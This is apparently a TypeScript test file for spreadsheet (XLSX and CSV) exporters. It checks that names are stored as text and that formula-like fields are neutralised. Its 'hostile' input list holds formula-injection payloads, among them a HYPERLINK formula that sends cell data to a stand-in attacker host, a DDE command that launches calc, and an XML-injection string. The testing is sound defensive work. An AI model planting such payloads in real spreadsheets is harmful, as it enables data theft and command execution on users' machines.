import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { at } from '@/tests/support/clock'
import { readCsv, readXlsx, unzip } from '@/tests/support/read-xlsx'
import type { Cell, Spreadsheet } from './model/spreadsheet'
import { writeCsv } from './write-csv'
import { writeXlsx } from './write-xlsx'

async function* told(rows: readonly (readonly Cell[])[]) {
  for (const row of rows) yield await Promise.resolve(row)
}
const sheetOf = (...rows: readonly (readonly Cell[])[]): Spreadsheet => ({
  name: 'Sổ theo dõi [07]', columns: [{ label: 'STT', width: 6 }, { label: 'Chủ hồ sơ', width: 30 }], rows: told(rows), at: at('2026-11-23', '10:00'),
})
async function bytesOf(blocks: AsyncIterable<Uint8Array>): Promise<Buffer> {
  const all: Uint8Array[] = []
  for await (const block of blocks) all.push(block)
  return Buffer.concat(all)
}
const xlsx = async (...rows: readonly (readonly Cell[])[]) => readXlsx(await bytesOf(writeXlsx(sheetOf(...rows))))
const csv = async (...rows: readonly (readonly Cell[])[]) => (await bytesOf(writeCsv(sheetOf(...rows)))).toString('utf8')

const hostile = [
  '=HYPERLINK("http://ke-xau.example?"&A1,"Bấm vào đây")', '=cmd|\' /C calc\'!A0', '+84905123456', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1', '＝1+1',
  'Nguyễn "Tèo" <An> & Bình', 'a,b\r\nc', '_x000D_', "O'Neil", '</t></is></c><c><f>1+1</f></c>', ' =1+1', '\u0000\u0007x', '\ud800',
]

describe('a workbook', () => {
  it('holds every name as text, never as a formula', async () => {
    const [head, ...rows] = await xlsx(...hostile.map((name, index) => [index + 1, name]))
    expect(head?.map(({ value }) => value)).toEqual(['STT', 'Chủ hồ sơ'])
    expect(rows).toHaveLength(hostile.length)
    for (const [index, [number, name]] of rows.entries()) {
      expect(number).toMatchObject({ kind: 'number', value: String(index + 1) })
      expect(name?.kind, hostile[index]).toBe('text')
    }
    expect(rows.slice(0, 5).map(([, name]) => name?.value)).toEqual(hostile.slice(0, 5))
    expect(rows.slice(0, 8).map(([, name]) => name?.style)).toEqual(Array.from({ length: 8 }, () => 4))
    expect(rows[8]?.[1]).toMatchObject({ value: 'Nguyễn "Tèo" <An> & Bình', style: 0 })
    expect(rows[10]?.[1]?.value).toBe('_x000D_')
  })

  it('has real dates, its heads frozen, and the same bytes for the same rows', async () => {
    const row: Cell[] = [{ day: '2026-11-23' }, { moment: at('2026-11-23', '06:00') }]
    expect((await xlsx(row))[1]).toMatchObject([{ kind: 'number', value: '46349', style: 2 }, { kind: 'number', value: '46349.25', style: 3 }])
    const file = await bytesOf(writeXlsx(sheetOf(row)))
    expect(unzip(file).get('xl/worksheets/sheet1.xml')).toContain('<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>')
    expect(unzip(file).get('xl/workbook.xml')).toContain('name="Sổ theo dõi  07 "')
    expect(file.equals(await bytesOf(writeXlsx(sheetOf(row))))).toBe(true)
  })

  it('throws what its rows throw', async () => {
    const broken = async function* (): AsyncGenerator<readonly Cell[]> {
      yield await Promise.resolve([1, 'a'])
      throw new Error('the database went away')
    }
    await expect(bytesOf(writeXlsx({ ...sheetOf(), rows: broken() }))).rejects.toThrow('the database went away')
  })

  it('holds any text', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'grapheme', maxLength: 60 }), async (text) => {
        const letters = (value: string) => value.replace(/\p{Cs}/gu, '\ufffd').replace(/\r\n?/g, '\n').replace(/[^\P{Cc}\n\t]|[\ufffe\uffff]/gu, '')
        const cell = (await xlsx([1, text]))[1]?.[1]
        expect(letters(cell?.value ?? '')).toBe(letters(text))
      }),
      { numRuns: 60 },
    )
  })
})

describe('comma-separated values', () => {
  it('begin with the mark of UTF-8 and neutralise what might run', async () => {
    const file = await csv(...hostile.map((name) => [1, name]), [-5, { moment: at('2026-11-23', '14:05') }])
    expect(file.startsWith('\uFEFFSTT,Chủ hồ sơ\r\n')).toBe(true)
    const rows = readCsv(file).slice(1)
    for (const [, name = ''] of rows.slice(0, 8)) expect(name.startsWith("'"), name).toBe(true)
    expect(rows[0]?.[1]).toBe(`'${hostile[0] ?? ''}`)
    expect(rows[9]?.[1]).toBe('a,b\r\nc')
    expect(rows.at(-1)).toEqual(['-5', '2026-11-23 14:05'])
  })

  it('leave no field that begins as a formula, whatever the text', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary', maxLength: 20 }), async (text) => {
        for (const [, name = ''] of readCsv(await csv([1, text])).slice(1)) expect(/^[=+\-@\t\r]/.test(name)).toBe(false)
      }),
      { numRuns: 200 },
    )
  })
})
